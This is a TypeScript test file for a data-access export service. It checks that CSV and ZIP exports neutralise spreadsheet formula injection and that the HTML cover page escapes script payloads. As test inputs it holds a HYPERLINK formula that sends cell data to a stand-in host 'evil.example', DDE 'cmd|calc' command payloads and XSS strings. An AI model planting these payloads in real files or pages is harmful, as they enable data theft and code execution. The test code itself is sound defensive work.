import { parse } from 'csv-parse/sync'
import t from 'tap'
import { exportDesk, unzip } from '../exports/support.ts'
import { testService } from '../support/service.ts'

const service = await testService(t)
service.at('2026-03-02T09:00:00Z')
const desk = await exportDesk(service, await service.organisation('packages', { locale: 'en' }))

const formulas = [
  '=HYPERLINK("http://evil.example/?x="&A1,"here")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|calc',
  '-2+3+cmd|calc',
  '@SUM(1+1)*cmd|calc',
  '\t=1+1',
  '\r=1+1',
]

t.test('47: no cell and no title of a table begins as a formula; JSON gives the text as it was', async (t) => {
  const request = await desk.open()
  const data = Object.fromEntries(
    formulas.flatMap((formula, i) => [
      [`f${i}`, formula],
      [formula, i],
    ]),
  )
  await desk.put(request.id, 'crm', [
    { category: '=cmd', provided_by: 'subject', data },
    { category: '=cmd', provided_by: 'subject', data: { ...data, amount: -5, nested: [{ deep: '=1' }] } },
  ])
  for (const format of ['csv', 'zip']) {
    const files = await unzip(await desk.content(request.id, await desk.ready(request.id, 'access', format)))
    const csv = files.get('cmd.csv')?.toString() ?? ''
    const rows: string[][] = parse(csv, { record_delimiter: '\r\n' })
    t.equal(rows.length, 3)
    t.same(
      rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell)),
      ['-5'],
      'a number is none',
    )
    const metadata = JSON.parse(files.get('cmd-metadata.json')?.toString() ?? '')
    const notes: { kind: string; target: string[] }[] = metadata.notes
    let restored = 0
    for (const cell of notes.filter(({ kind }) => kind === 'neutralised').flatMap(({ target }) => target)) {
      const [row = 0, column = 0, last = row] = (/#cell=(\d+),(\d+)(?:-(\d+),\d+)?$/.exec(cell) ?? [])
        .slice(1)
        .map((n) => (n === undefined ? undefined : Number(n)))
      for (let at = row; at <= last; at += 1) {
        const cells = rows[at - 1] ?? []
        t.match(cells[column - 1], /^'/)
        cells[column - 1] = (cells[column - 1] ?? '').slice(1)
        restored += 1
      }
    }
    t.equal(restored, formulas.length * 3 + 1)
    t.same(
      rows[1]?.filter((cell) => formulas.includes(cell)),
      formulas,
      'and each is restored',
    )
    if (format === 'csv') continue
    const [first] = JSON.parse(files.get('records.json')?.toString() ?? '').records['=cmd']
    t.same(first, data)
  }
})

t.test('74: active content is text on the cover, also in what staff writes into the register', async (t) => {
  const active = '<script>alert(1)</script><img src=x onerror=alert(1)>"\'&<!--'
  await desk.dpo('PUT', '/v1/register', {
    categories: [{ key: active, name: active, fields: [active] }],
    activities: [
      {
        key: active,
        name: active,
        purpose: active,
        legal_basis: 'consent',
        otherwise: active,
        legitimate_interest: active,
        categories: [active],
        retention: active,
        automated_decisions: { logic: active, significance: active, consequences: active },
      },
    ],
    recipients: [{ name: active, role: active, location: [active], transfer: true, safeguards: [active] }],
    sources: { direct: [active], indirect: [active] },
  })
  const request = await desk.open([{ right: 'access' }, { right: 'portability' }])
  const records = ['subject', 'third_party'].map((provided_by) => ({
    category: active,
    purpose: active,
    provided_by,
    data: { [active]: active },
  }))
  await desk.put(request.id, active.slice(0, 40), records)
  for (const kind of ['access', 'portability']) {
    const files = await unzip(await desk.content(request.id, await desk.ready(request.id, kind, 'zip')))
    const page = files.get('cover.html')?.toString() ?? ''
    t.match(page, /default-src 'none'/)
    t.ok(page.includes('&lt;script&gt;alert(1)&lt;/script&gt;'))
    const tags = new Set([...page.matchAll(/<([a-z!][a-z0-9-]*)/gi)].map(([, tag]) => tag?.toLowerCase()))
    const known = '!doctype html head meta title style body main section h1 h2 h3 small p ul li dl div dt dd'.split(' ')
    t.same(
      [...tags].filter((tag) => !known.includes(tag ?? '')),
      [],
    )
    t.same(page.match(/<[^>]*\s(?:on\w+|src|href)\s*=/gi), null)
    t.same(
      [...files.keys()].filter((path) => !/^[A-Za-z0-9.-]+$/.test(path)),
      [],
      'and no name of a file is taken over',
    )
  }
})
